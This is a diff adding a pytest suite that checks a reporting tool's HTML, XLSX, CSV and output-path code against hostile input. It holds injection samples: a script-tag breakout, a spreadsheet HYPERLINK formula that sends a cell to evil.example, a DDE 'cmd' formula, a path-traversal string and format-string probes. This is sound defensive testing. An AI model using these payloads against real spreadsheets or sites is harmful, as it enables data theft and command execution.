@@ -1,0 +1,172 @@
+"""Hostile and careless input (issue 15): every case makes its own hostile input and states
+the outcome expected. Text from data must never become code in any output kind."""
+
+from __future__ import annotations
+
+import csv
+import io
+from html.parser import HTMLParser
+
+import nbformat
+import openpyxl
+import pytest
+
+from analysis import escape
+from analysis.batch import runlist as batch_runlist
+from analysis.errors import WorkbenchError
+from analysis.report import render
+
+SCRIPT = "</style><script>alert(1)</script>"
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")'
+
+
+class _Tags(HTMLParser):
+    """Counts start tags by name, as a browser's tokenizer sees them."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.count: dict[str, int] = {}
+
+    def handle_starttag(self, tag, attrs):
+        self.count[tag] = self.count.get(tag, 0) + 1
+
+
+def _tags(html: str) -> dict[str, int]:
+    parser = _Tags()
+    parser.feed(html)
+    return parser.count
+
+
+# --- CSS string inside <style> ----------------------------------------------------------------
+
+
+def test_css_string_cannot_end_the_string_or_the_style_block():
+    text = escape.css_string(f'Sở "A" \\ {SCRIPT}\n')
+    for bad in ("<", ">", '"', "\n"):
+        assert bad not in text
+    assert "\\" not in text.replace("\\00", "")  # the only backslashes start an escape
+    assert escape.css_string("Thái Nguyên, quý 3/2023") == "Thái Nguyên, quý 3/2023"
+
+
+def test_title_from_data_yields_no_live_script_in_the_page():
+    """The title (an agency's name from a dossier export) goes into the running footer's CSS
+    string and into the title block: the page must hold exactly the template's one <style>
+    and no <script> at all."""
+    nb = nbformat.v4.new_notebook()
+    meta = {"title": f"Phiếu điểm {SCRIPT}", "lang": "vi", "provenance": []}
+    html = render.to_html(nb, meta)
+    tags = _tags(html)
+    assert tags.get("script", 0) == 0, "a live <script> element"
+    assert tags.get("style", 0) == 1
+    style = html.split("<style>", 1)[1].split("</style>", 1)[0]
+    assert "<" not in style  # nothing from the title reads as a tag inside <style>
+
+
+# --- XLSX cells -------------------------------------------------------------------------------
+
+
+def _cells(data: bytes):
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    return [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+
+
+def test_document_workbook_stores_formula_like_text_as_text():
+    tables = [
+        {
+            "caption": FORMULA,
+            "columns": ["Cơ quan", "Tỷ lệ"],
+            "rows": [[FORMULA, 0.5], ["+cmd|' /C calc'!A0", 1], ["@SUM(A1:A2)", 2], ["-0,3", 3]],
+        }
+    ]
+    cells = _cells(render.to_xlsx(tables, {"title": FORMULA, "lang": "vi"}))
+    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
+    texts = {c.value for c in cells if isinstance(c.value, str)}
+    assert FORMULA in texts  # shown exactly as typed
+    plain = [c for c in cells if c.value == "-0,3"]
+    assert plain and not plain[0].quotePrefix  # a signed number is data, left alone
+
+
+def test_score_workbook_stores_formula_like_text_as_text(tmp_path):
+    """`workbench score --out x.xlsx` writes through ScoreResult.to_file."""
+    import pandas as pd
+
+    from analysis.index766 import engine
+
+    units = pd.DataFrame({"unit": [FORMULA], "total": [50.0]})
+
+    class _Result(engine.ScoreResult):  # the real writer; only the tables are made by hand
+        def table(self):
+            return pd.DataFrame({"agency": [FORMULA], "points": [1.0]})
+
+    fake = object.__new__(_Result)
+    for key, value in {"units": units, "rules_version": "t", "rules_path": "t"}.items():
+        object.__setattr__(fake, key, value)
+    path = fake.to_file(tmp_path / "score.xlsx")
+    cells = _cells(path.read_bytes())
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert FORMULA in {c.value for c in cells}
+
+
+# --- CSV cells --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1"])
+def test_csv_cell_neutralises_formula_triggers(value):
+    assert escape.csv_cell(value) == "'" + value
+    assert escape.csv_cell("Sở Tư pháp") == "Sở Tư pháp"
+    assert escape.csv_cell("-12") == "-12" and escape.csv_cell(5) == 5
+
+
+def test_rejected_rows_file_carries_no_formula(tmp_path):
+    from analysis.ingest import Rejected, _write_rejected
+
+    target = tmp_path / "rejected_x.csv"
+    _write_rejected(target, [Rejected("x.csv", 7, {"Cơ quan": FORMULA}, ["bad count"])])
+    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
+    assert rows[1][2] == "'" + FORMULA
+    assert not any(cell.startswith(escape.FORMULA_TRIGGERS) for row in rows for cell in row)
+
+
+# --- run list output paths --------------------------------------------------------------------
+
+
+def _notebook(tmp_path):
+    nb = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell('agency = "x"')
+    cell.metadata["tags"] = ["parameters"]
+    nb.cells = [cell]
+    path = tmp_path / "agency.ipynb"
+    nbformat.write(nb, path)
+    return path
+
+
+def _load(tmp_path, output, unit):
+    nb = _notebook(tmp_path)
+    path = tmp_path / "run.yaml"
+    path.write_text(
+        f"period: 2023Q3\nformats: [html]\nruns:\n  - notebook: {nb}\n"
+        f"    output: '{output}'\n    parameters: {{agency: '{unit}'}}\n",
+        encoding="utf-8",
+    )
+    reports = tmp_path / "reports"
+    reports.mkdir(exist_ok=True)
+    return batch_runlist.load(path, reports=reports)
+
+
+def test_unit_name_cannot_lead_the_output_out_of_reports(tmp_path):
+    with pytest.raises(WorkbenchError, match="outside the reports folder") as err:
+        _load(tmp_path, "{period}/agencies/{agency}", "../../../../outside/pwned")
+    assert "entry 1" in str(err.value) and "output" in str(err.value)
+    assert not (tmp_path / "outside").exists()
+
+
+@pytest.mark.parametrize("field", ["{slug.__class__.__mro__}", "{agency[0]}", "{agency!r}"])
+def test_output_placeholders_are_plain_names(tmp_path, field):
+    with pytest.raises(WorkbenchError, match="is not allowed"):
+        _load(tmp_path, "{period}/" + field, "Sở Tư pháp")
+
+
+def test_plain_output_still_works(tmp_path):
+    runs = _load(tmp_path, "{period}/agencies/{agency}", "Sở Tư pháp").runs
+    assert runs[0].out_dir == (tmp_path / "reports" / "2023Q3" / "agencies")
+    assert runs[0].stem == "Sở Tư pháp"
